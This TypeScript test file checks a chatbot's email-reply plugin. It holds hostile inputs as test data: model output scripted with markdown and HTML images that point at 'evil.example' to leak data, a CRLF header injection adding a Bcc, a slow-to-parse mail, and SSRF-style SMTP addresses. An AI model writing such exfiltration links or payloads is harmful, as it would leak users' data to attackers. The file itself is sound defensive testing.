import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { startMailServer, type MailServer } from '../../../../test/stand-ins/mail-server.ts';
import { startProduct, type Product, type TestClient } from '../../../../test/product.ts';
import { startProvider, type Provider } from '../../../../test/stand-ins/provider.ts';
import { makeTaughtAgent } from '../../../../test/taught-agent.ts';

let mail: MailServer;
let provider: Provider;
let product: Product;
let owner: TestClient;
let organizationId: string;
let chatbotId: string;
let pluginId: string;
let token: string;
const pieces = ['Until **nine**, <b>every</b> day. ', '[1]'];
beforeAll(async () => {
  mail = await startMailServer();
  provider = await startProvider({ pieces });
  product = await startProduct({ providers: { openai: provider.openai }, ssrfAllowedHosts: [mail.host] });
  owner = product.as('owner');
  organizationId = (await owner.organization.create({ name: 'Acme' })).organization.id;
});
afterAll(async () => {
  await product.close();
  await provider.close();
  await mail.close();
});
beforeEach(async () => {
  chatbotId = (await makeTaughtAgent(owner, organizationId, 'The shop closes at nine in the evening.')).id;
  const plugin = await install();
  pluginId = plugin.id;
  token = plugin.verifyToken ?? '';
  mail.mails = [];
});

const install = async (smtpUrl: string | undefined = mail.url) =>
  (
    await owner.plugin.create({
      chatbotId,
      type: 'email',
      settingsData: { address: 'help@shop.example', name: 'The shop' },
      credentials: smtpUrl === undefined ? {} : { smtpUrl },
    })
  ).plugin;

type Written = ConstructorParameters<typeof MailComposer>[0];

const ada = { name: 'Ada', address: 'Ada@Example.com' };
const written = async (more: Written = {}): Promise<Uint8Array<ArrayBuffer>> => {
  const mail = new MailComposer({
    from: ada,
    to: 'help@shop.example',
    subject: 'Opening hours',
    messageId: '<one@example.com>',
    text: 'When does the shop close?',
    ...more,
  });
  return new Uint8Array(await mail.compile().build());
};

const textOf = (raw: Uint8Array): string => Buffer.from(raw).toString();

const post = async (body: BodyInit, headers: Record<string, string> = {}) =>
  (
    await fetch(`${product.url}/v1/plugin/${pluginId}/webhook`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'message/rfc822', ...headers },
      body,
    })
  ).status;

const messages = async () => (await owner.plugin.listMessages({ id: pluginId })).messages;
const arrived = (count: number) => expect.poll(() => mail.mails.length).toBe(count);

test('a mail is answered to its sender, in its thread, as text and as HTML without foreign markup', async () => {
  expect(await post(await written())).toBe(200);
  await arrived(1);
  const [answer] = mail.mails;
  expect(answer).toMatchObject({ subject: 'Re: Opening hours', inReplyTo: '<one@example.com>' });
  expect(answer?.to).toMatchObject({ text: 'ada@example.com' });
  expect(answer?.from?.value).toEqual([{ name: 'The shop', address: 'help@shop.example' }]);
  expect(answer?.headers.get('auto-submitted')).toBe('auto-replied');
  expect(answer?.text).toContain('Until **nine**');
  expect(answer?.html).toContain('<strong>nine</strong>, &lt;b&gt;every&lt;/b&gt;');
  // The mail is sent before that is recorded.
  await expect
    .poll(messages)
    .toMatchObject([{ personName: 'Ada', text: 'When does the shop close?', state: 'answered' }]);
});

test('a mail built to take minutes to parse blocks nobody and gets no answer', async () => {
  const posted = post(`from: a@b.example\r\nsubject: a${'\r\n '.repeat(300_000)}\r\n\r\nHello`);
  let slowest = 0;
  for (let looks = 0; looks < 20; looks += 1) {
    const began = performance.now();
    await fetch(`${product.url}/healthz`);
    slowest = Math.max(slowest, performance.now() - began);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  expect(slowest).toBeLessThan(10_000);
  expect(await posted).toBe(200);
  expect(await messages()).toEqual([]);
});

test('a mail shows no images, so its reader fetches nothing that a model was led to write', async () => {
  const hostile = [
    '![Look](https://evil.example/a?told=4711)',
    '!!![and](https://evil.example/b)',
    '![![in](https://evil.example/c) it](https://evil.example/d)',
    '[![in a link](https://evil.example/e)](https://evil.example/f)',
    '![by name][name]',
    '<img src="https://evil.example/g">',
  ];
  provider.script = { pieces: [`${hostile.join('\n\n')}\n\n[name]: https://evil.example/h`] };
  await post(await written());
  await arrived(1);
  provider.script = { pieces };
  const { html = '' } = mail.mails[0] ?? {};
  expect(html).not.toMatch(/<img\b/);
  expect(html).toContain('<a href="https://evil.example/a?told=4711">Look</a>');
});

test('a reply to the answer continues the same conversation, without the quoted text', async () => {
  await post(await written());
  await arrived(1);
  const text =
    'And on Sunday?\n\nOn Sun, Nov 22, 2026 at 9:00 AM The shop <help@shop.example> wrote:\n> Until nine';
  const references = ['<one@example.com>', mail.mails[0]?.messageId ?? ''];
  await post(
    await written({ messageId: '<two@example.com>', subject: 'AW: Re: Opening hours', references, text }),
  );
  await arrived(2);
  const [second, first] = await messages();
  expect(second?.text).toBe('And on Sunday?');
  expect(second?.conversationId).toBe(first?.conversationId);
  expect(mail.mails[1]?.subject).toBe('Re: Opening hours');
});

test('a mail attachment is part of the question', async () => {
  const attachments = [{ filename: 'order.txt', content: 'Order 4711: two lamps.' }];
  await post(await written({ attachments }));
  await arrived(1);
  const asked = provider.requests.at(-1);
  expect(JSON.stringify(asked)).toContain('Order 4711');
});

test('mail forwarded by services as JSON or as a form is accepted as well', async () => {
  const raw = (id: string) => written({ messageId: `<${id}@example.com>` });
  const RawEmail = textOf(await raw('postmark'));
  const basic = `Basic ${Buffer.from(`parley:${token}`).toString('base64')}`;
  expect(
    await post(JSON.stringify({ RawEmail }), { 'content-type': 'application/json', authorization: basic }),
  ).toBe(200);
  for (const field of ['email', 'body-mime']) {
    const form = new FormData();
    form.set(field, textOf(await raw(field)));
    const request = new Request('http://localhost', { method: 'POST', body: form });
    const type = request.headers.get('content-type') ?? '';
    expect(await post(await request.arrayBuffer(), { 'content-type': type })).toBe(200);
  }
  await arrived(3);
});

test('mail without the token is rejected, and the same mail twice is answered once', async () => {
  const raw = await written();
  for (const authorization of ['', 'Bearer ', 'Bearer wrong', `Basic ${btoa('parley:wrong')}`])
    expect(await post(raw, { authorization })).toBe(401);
  expect(await post('no mail at all')).toBe(400);
  expect(await Promise.all(Array.from({ length: 4 }, () => post(raw)))).toEqual([200, 200, 200, 200]);
  await arrived(1);
  expect(await messages()).toHaveLength(1);
});

test('a mail with odd ids is accepted, one from an address that cannot be replied to goes unanswered', async () => {
  const odd = '\u0000a\u0007\ud800';
  const raw = textOf(await written({ references: '<root@example.com>' }))
    .replace('<one@example.com>', `<one${odd}@example.com>`)
    .replace('<root@example.com>', `<root${odd}@example.com>`)
    .replace('Opening hours', `Opening ${odd}hours`);
  expect(await post(raw)).toBe(200);
  expect(await post(raw)).toBe(200);
  await arrived(1);
  expect(await messages()).toHaveLength(1);
  for (const address of [`a${odd}@example.com`, `${'a'.repeat(5000)}@example.com`])
    expect(await post(textOf(await written()).replace(/ada@example\.com/i, address))).toBe(200);
  expect(await messages()).toHaveLength(1);
});

test('machines, lists, bounces, forgeries and the agent’s own mail are not answered', async () => {
  const automatic: Written[] = [
    { headers: { 'Auto-Submitted': 'auto-replied' } },
    { headers: { Precedence: 'bulk' } },
    { headers: { 'List-Id': '<news.example.com>' } },
    { headers: { 'Authentication-Results': 'mx.example; dmarc=fail' } },
    { from: 'HELP@shop.example' },
  ];
  for (const [index, more] of automatic.entries())
    expect(await post(await written({ ...more, messageId: `<machine${index}@example.com>` }))).toBe(200);
  expect(await messages()).toEqual([]);
});

test('header contents cannot smuggle in another recipient', async () => {
  const raw = textOf(await written()).replace(
    'Subject: Opening hours',
    'Subject: =?utf-8?Q?Hours=0D=0ABcc:_evil@example.com?=',
  );
  expect(await post(raw)).toBe(200);
  await arrived(1);
  expect(mail.mails[0]?.bcc).toBeUndefined();
  expect(mail.mails[0]?.headers.has('bcc')).toBe(false);
});

test('a mail server is checked: its password, its address, and what it rejects', async () => {
  const { health } = await install(mail.url.replace('secret', 'wrong'));
  expect(health).toMatchObject({
    state: 'failing',
    error: 'The mail server refused this user name and password.',
  });
  for (const url of ['smtp://127.0.0.1:25', 'smtps://10.0.0.1', 'smtp://localhost:587', 'smtp://8.8.8.8:22'])
    expect((await install(url)).health).toMatchObject({
      state: 'failing',
      error: expect.stringMatching(/^This mail server is not allowed: .*SSRF_ALLOWED_HOSTS/) as string,
    });
  await expect(install('https://example.com')).rejects.toMatchObject({ status: 400 });
  const none = await owner.plugin.create({
    chatbotId,
    type: 'email',
    settingsData: { address: 'help@shop.example', name: 'The shop' },
  });
  expect(none.plugin.health.error).toBe('This installation sends no mail. Enter a mail server.');
  mail.refusal = 550;
  await post(await written());
  await expect.poll(async () => (await messages())[0]?.state).toBe('failed');
  expect((await messages())[0]?.error).toMatch(/^The mail server said: 550/);
});
